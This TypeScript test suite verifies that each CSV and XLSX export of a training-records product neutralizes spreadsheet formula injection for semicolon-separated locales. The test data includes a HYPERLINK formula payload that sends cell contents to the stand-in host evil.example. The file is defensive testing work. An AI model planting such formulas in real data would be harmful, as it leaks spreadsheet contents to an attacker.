import { endpoints, needsFormulaPrefix, parseCsv } from '@cpe/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AOA_NOW, aoaClass, openAoa } from '../support/factories/aoa.ts';
import { insertClass } from '../support/factories/classes.ts';
import { createCourse } from '../support/factories/courses.ts';
import { insertCreditRecord } from '../support/factories/credit-records.ts';
import { createRequest } from '../support/factories/external-cpe.ts';
import { assignLearner, createProgram, createStudy, finalizedStudy } from '../support/factories/independent-study.ts';
import { createLocalLearning } from '../support/factories/local-learning.ts';
import { runReport } from '../support/factories/reports.ts';
import { insertPeople } from '../support/factories/user-search.ts';
import { createVendedItem, createVendor } from '../support/factories/vended-content.ts';
import { readXlsx } from '../support/read-xlsx.ts';
import { type SignedIn, startSignedIn } from '../support/signed-in.ts';
import { as, type Session } from '../support/test-server.ts';

/**
 * Issue 28: every export of the product (each route whose answer is CSV or XLSX, found in the
 * contract) writes a cell that a ;-locale spreadsheet would split into a formula (";=…") as
 * text: quoted and prefixed with an apostrophe (ADR 0058). One malicious value per export.
 */
let s: SignedIn;
let accadmin: Session;

/** Opens as a formula where ; is the list separator (German, French Excel) unless neutralized. */
const evil = (tag: string) => `;=HYPERLINK("http://evil.example/?"&A1,"Zq${tag}")`;
const DAY = '2031-04-07';

interface Export {
  route: string;
  format: 'csv' | 'xlsx';
  who: () => Session;
  path: () => string;
}
const ids = { person: 0, class: 0, aoaClass: 0, program: 0, run: 0 };

const EXPORTS: Export[] = [
  { route: 'exportCourses', format: 'csv', who: () => s.admin, path: () => '/api/course/search/export?search_text=zqcourse' },
  { route: 'exportClasses', format: 'csv', who: () => s.admin, path: () => '/api/class/search/export?search_text=zqclass' },
  { route: 'exportRoster', format: 'csv', who: () => s.admin, path: () => `/api/class/roster/export/${ids.class}` },
  { route: 'exportUsers', format: 'csv', who: () => s.admin, path: () => '/api/user-administration/export?q=zqperson&type=both' },
  { route: 'exportAoas', format: 'csv', who: () => s.learner, path: () => `/api/aoa/export?scope=mine&classId=${ids.aoaClass}` },
  { route: 'exportLocalLearning', format: 'csv', who: () => s.admin, path: () => '/api/locallearning/export?search_text=zqlocal' },
  { route: 'exportExternalCpe', format: 'csv', who: () => s.learner, path: () => '/api/requests/ext-cpe/export?scope=mine&text=zqecpe' },
  { route: 'exportVendedContent', format: 'csv', who: () => s.admin, path: () => '/api/vendedcontent/export?search_text=zqvended' },
  { route: 'exportIndependentStudies', format: 'csv', who: () => s.admin, path: () => `/api/ind-study/export?program_id=${ids.program}` },
  { route: 'exportLearnerStudies', format: 'csv', who: () => s.learner, path: () => '/api/learner/ind-study/export?text=zqlearnerstudy' },
  {
    route: 'exportPersonTranscripts',
    format: 'csv',
    who: () => s.admin,
    path: () => `/api/person/transcripts/${ids.person}/export?from=2031-01-01`,
  },
  {
    route: 'exportCreditLimitationLog',
    format: 'csv',
    who: () => accadmin,
    path: () => '/api/accadmin/credit-limitation-log/export?classTitle=zqclass',
  },
  { route: 'downloadReportCsv', format: 'csv', who: () => s.admin, path: () => `/api/reports/runs/${ids.run}/csv` },
  { route: 'downloadReportXlsx', format: 'xlsx', who: () => s.admin, path: () => `/api/reports/runs/${ids.run}/xlsx` },
  {
    route: 'downloadIrsReport',
    format: 'csv',
    who: () => s.admin,
    path: () => '/api/admin/irs/report/file?from=2031-04-01&to=2031-04-30&format=csv',
  },
  {
    route: 'downloadIrsReport',
    format: 'xlsx',
    who: () => s.admin,
    path: () => '/api/admin/irs/report/file?from=2031-04-01&to=2031-04-30&format=xlsx',
  },
];

/** Routes that send a file that is not an export of the product's data: PDFs, a person's own upload, the logo. */
const NOT_EXPORTS = ['downloadCertificate', 'downloadClassCertificates', 'downloadDocument', 'tenantLogo'];

beforeAll(async () => {
  s = await startSignedIn({ start: AOA_NOW });
  accadmin = await s.server.login('accadmin');
  const admin = as(s.server, s.admin);
  const [person] = await insertPeople(s.server, [{ type: 'external', first: evil('person'), last: 'Zqperson', displayId: 'ZQ-28' }]);
  ids.person = person?.id as number;
  const courseTitle = evil('course');
  const courseId = await createCourse(admin, { title: courseTitle });
  const cls = await insertClass(s.server, {
    title: evil('class'),
    courseTitle,
    status: 'Certified',
    days: [{ date: DAY }],
    learners: [{ username: 'zq-28', attended: [1] }],
  });
  ids.class = cls.classId;
  const irs = await admin('POST', '/api/admin/irs/programs', {
    body: { program_number: 'ZQE28-T-00028-25', title: 'Zq IRS', ce_hours: 2, course_ids: [courseId] },
  });
  expect(irs.status, JSON.stringify(irs.body)).toBe(201);
  await s.server.db.asOwner(async (tx) => {
    const tenantId = (await tx.query<{ id: number }>("SELECT id FROM tenants WHERE subdomain = 'demo'")).rows[0]?.id as number;
    await insertCreditRecord(tx, {
      tenantId,
      personId: ids.person,
      classId: cls.classId,
      courseId,
      completedOn: DAY,
      fields: [[20, 2]],
      minutes: 100,
    });
    await tx.query("INSERT INTO person_ids (tenant_id, person_id, id_type, value) VALUES ($1, $2, 'PTIN', 'P02802828')", [
      tenantId,
      ids.person,
    ]);
    const rule = await tx.query<{ id: number }>(
      "INSERT INTO credit_limitation_rules (tenant_id, name, scope, max_credits) VALUES ($1, 'Zq rule', 'day', 1) RETURNING id",
      [tenantId],
    );
    await tx.query(
      'INSERT INTO credit_limitation_cuts (tenant_id, class_id, person_id, rule_id, amount, cut_at) VALUES ($1, $2, $3, $4, 1, now())',
      [tenantId, cls.classId, ids.person, rule.rows[0]?.id],
    );
  });
  ids.run = (await runReport(admin, 'attendance', { from: '2031-04-01', to: '2031-04-30', status: 'Certified' })).id;

  const aoa = await aoaClass(s.server, { title: evil('aoa') });
  ids.aoaClass = aoa.classId;
  await openAoa(s.server, s.learner, aoa.classId);
  await createLocalLearning(as(s.server, s.instructor), { title: evil('local') });
  await createRequest(s.server, s.learner, evil('ecpe'));
  await createVendedItem(admin, await createVendor(admin), evil('vended'));
  ids.program = await createProgram(as(s.server, s.instructor), 'Zq program');
  await createStudy(as(s.server, s.instructor), ids.program, { title: evil('study') });
  const taken = await finalizedStudy(s.server, s.instructor, s.admin, ids.program, evil('learnerstudy'));
  await assignLearner(admin, taken, s.learner.personId);
}, 300_000);
afterAll(() => s?.server.close());

async function cellsOf(e: Export): Promise<string[]> {
  const who = e.who();
  const res = await fetch(`${s.server.url}${e.path()}`, {
    headers: { subdomain_name: who.tenant, authorization: `Bearer ${who.token}`, user_id: String(who.personId) },
  });
  expect(res.status, `${e.route} ${e.format}: ${res.status}`).toBe(200);
  if (e.format === 'xlsx') {
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    return readXlsx(new Uint8Array(await res.arrayBuffer())).flatMap((sheet) => sheet.rows.flat());
  }
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  const text = await res.text();
  // Quoted, so a spreadsheet whose list separator is ; cannot split the cell at its ;.
  expect(text, e.route).toContain(`"';=HYPERLINK(""http://evil.example/?""&A1,""Zq`);
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(`${e.route}: ${parsed.message}`);
  return parsed.records.flatMap((r) => r.fields);
}

describe('every export neutralizes a ;-locale formula', () => {
  it('lists every route of the contract that answers CSV or XLSX', () => {
    const covered = new Set(EXPORTS.map((e) => e.route));
    const files = Object.entries(endpoints as Record<string, { response?: unknown; path?: string }>).filter(([, r]) => {
      const response = r.response as { def?: { options?: unknown[] } } | undefined;
      return (
        response === endpoints.exportCourses.response ||
        response?.def?.options?.includes(endpoints.exportCourses.response) ||
        r.path?.endsWith('/xlsx')
      );
    });
    expect(files.length).toBeGreaterThan(10);
    for (const [name] of files) expect(covered, `${name} is an export: add it to EXPORTS`).toContain(name);
    // Files that are not exports are named, so a new download is classified, not missed.
    const downloads = Object.entries(endpoints as Record<string, { response?: unknown }>)
      .filter(([name, r]) => r.response !== undefined && !files.some(([f]) => f === name))
      .filter(([, r]) => (r.response as { def?: { type?: string } }).def?.type === 'any')
      .map(([name]) => name);
    expect(downloads.sort()).toEqual([...NOT_EXPORTS].sort());
  });

  it.each(EXPORTS.map((e) => [`${e.route} (${e.format})`, e] as const))('%s', async (_name, e) => {
    const ours = (await cellsOf(e)).filter((c) => c.includes('Zq') && c.includes('HYPERLINK'));
    expect(ours.length, `${e.route}: the malicious value is not in the export`).toBeGreaterThan(0);
    for (const cell of ours) {
      expect(cell.startsWith("';=HYPERLINK"), `${e.route}: ${cell}`).toBe(true);
      // What follows the apostrophe is exactly what would have opened as a formula.
      expect(needsFormulaPrefix(cell.slice(1))).toBe(true);
    }
  });
});
